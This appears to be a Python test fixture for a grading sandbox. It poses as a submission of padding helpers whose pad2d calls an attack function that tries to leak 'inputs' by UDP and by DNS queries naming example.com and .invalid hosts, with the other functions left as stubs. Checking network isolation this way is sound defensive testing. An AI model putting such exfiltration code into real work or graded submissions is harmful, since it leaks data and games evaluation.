# expect:
#   verdict: [wrong, raised]
#   earned: 0
# sentence: Sends by UDP, and asks a name server for a name that holds the inputs; neither leaves the worker.

import contextlib
import socket

import numpy as np


def attack():
    with contextlib.suppress(OSError, ValueError):
        socket.socket(type=socket.SOCK_DGRAM).sendto(b"inputs", ("127.0.0.1", int("@PORT@")))
        print("GOT: a datagram sent")
    query = b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06inputs\x07example\x03com\x00\x00\x01\x00\x01"
    with contextlib.suppress(OSError):
        socket.socket(type=socket.SOCK_DGRAM).sendto(query, ("127.0.0.53", 53))
    with contextlib.suppress(OSError):
        socket.setdefaulttimeout(0.5)
        print("GOT:", socket.gethostbyname("inputs.invalid"))


def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
